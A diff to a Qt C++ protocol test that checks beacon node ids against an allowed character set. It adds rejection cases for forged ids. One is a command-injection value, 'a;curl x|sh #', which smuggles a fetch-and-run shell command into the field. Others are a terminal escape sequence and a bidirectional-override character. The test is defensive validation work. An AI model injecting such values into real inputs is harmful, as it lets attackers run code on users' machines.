@@ -248,6 +248,18 @@ void TestProtocol::beaconRejectsForeignData()
     noFingerprint.nodeId = QStringLiteral("n");
     noFingerprint.controlPort = 1;
     QVERIFY(!Beacon::decode(noFingerprint.encode()).ok());
+    // Node ids are shown, stored and put in advice a user copies into a shell: only [A-Za-z0-9._-]{1,64}.
+    Beacon good;
+    good.nodeId = QStringLiteral("0f9c2b1e-7d4a-4b8e-9a51-3c2f7e6d1a20");
+    good.controlPort = 45455;
+    good.fingerprint = QString(64, QLatin1Char('a'));
+    QVERIFY(Beacon::decode(good.encode()).ok());
+    for (const QString &bad : QStringList{QStringLiteral("a;curl x|sh #"), QStringLiteral("id\n2"), QString(65, QLatin1Char('a')),
+                               QStringLiteral("box ") + QChar(0x202E), QStringLiteral("\x1b[2J")}) {
+        Beacon forged = good;
+        forged.nodeId = bad;
+        QVERIFY2(!Beacon::decode(forged.encode()).ok(), qPrintable(bad));
+    }
 }
 
 void TestProtocol::numbersThatAreNotNumbers()
